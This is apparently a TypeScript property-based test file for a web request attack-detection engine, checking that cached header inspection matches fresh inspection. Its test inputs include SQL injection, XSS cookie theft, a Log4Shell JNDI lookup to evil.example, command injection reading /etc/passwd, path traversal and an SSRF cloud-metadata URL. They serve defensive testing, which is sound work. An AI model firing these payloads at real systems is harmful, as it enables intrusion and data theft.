import type { HeaderField, Point } from '@sallyport/core';
import { canonicalRequest, extractRequest, HeaderMemory, type Leaf } from '@sallyport/traffic';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createDetection, type Detection, type Inspection } from './index.ts';
import { MEMO_LEAVES_MIN } from './limits.ts';

const ATTACKS = [
  "' UNION SELECT card FROM vault--",
  '<script>alert(document.cookie)</script>',
  '${jndi:ldap://evil.example/a}',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
];

function inspect(detection: Detection, headers: readonly HeaderField[], memory: HeaderMemory | null, target = '/'): Inspection {
  const { request, facts } = canonicalRequest({
    method: 'GET',
    target,
    scheme: 'https',
    host: 'h',
    headers,
    body: { state: 'none', bytes: new Uint8Array() },
  });
  const { leaves, repeats } = extractRequest(request, undefined, null, memory);
  return detection.inspect(leaves, request, null, facts, repeats);
}

describe('header values that come again', () => {
  it('a warm engine says exactly what a fresh one says', () => {
    const warm = createDetection();
    const memory = new HeaderMemory();
    const text = fc.oneof(
      fc.string({ maxLength: 300 }),
      fc.constantFrom(...ATTACKS),
      fc.tuple(fc.string({ maxLength: 40 }), fc.constantFrom(...ATTACKS)).map((parts) => parts.join(' ')),
    );
    const headers = fc.array(fc.tuple(fc.constantFrom('user-agent', 'referer', 'cookie', 'x-a'), text), { maxLength: 6 });
    fc.assert(
      fc.property(headers, (given) => {
        const fresh = inspect(createDetection(), given, null);
        expect(inspect(warm, given, memory)).toEqual(fresh);
        expect(inspect(warm, given, memory)).toEqual(fresh);
      }),
      { numRuns: 60 },
    );
  });

  it('a value that is clean in one header is still read in another place', () => {
    const detection = createDetection();
    const memory = new HeaderMemory();
    const value = 'https://169.254.169.254/latest/meta-data/';
    const headers: HeaderField[] = [['referer', value]];
    const fresh = inspect(createDetection(), headers, null).classes;
    for (let time = 0; time < 3; time++) expect(inspect(detection, headers, memory).classes).toEqual(fresh);
    expect(inspect(detection, headers, memory, `/?url=${encodeURIComponent(value)}`).classes).toContain('ssrf');
  });
});

describe('values that come again in one message', () => {
  const detection = createDetection();
  const { request } = canonicalRequest({
    method: 'GET',
    target: '/',
    scheme: 'https',
    host: 'h',
    headers: [],
    body: { state: 'none', bytes: new Uint8Array() },
  });
  const values = [...ATTACKS, "O'Brien & Sons; 50% (net)", 'https://169.254.169.254/latest/meta-data/', "' or 1=1 --"];
  const leaf = (at: number, name: string, value: string): Leaf => ({
    point: `body./items/${at}/${name}` as Point,
    kind: 'body',
    name,
    isName: false,
    value,
    decoded: 0,
  });
  const filler = Array.from({ length: MEMO_LEAVES_MIN }, (_, at) => leaf(at, 'n', '1'));
  const found = ({ findings }: Inspection): string[] =>
    findings.map(({ detector, point, confidence, evidence }) => `${detector} ${point} ${confidence} ${evidence}`);

  it.each<readonly string[]>([
    ['memo', 'memo'],
    ['password', 'memo'],
    ['memo', 'password', 'url', 'memo'],
  ])('say of each place what they say alone: %s, %s', (...names) => {
    for (const value of values) {
      const leaves = names.map((name, at) => leaf(100 + at, name, value));
      const alone = leaves.map((one) => detection.inspect([one], request, null));
      const together = detection.inspect([...filler, ...leaves], request, null);
      expect(together.score).toBe(Math.max(...alone.map(({ score }) => score)));
      expect(found(together).sort()).toEqual(alone.flatMap(found).sort());
    }
  });
});
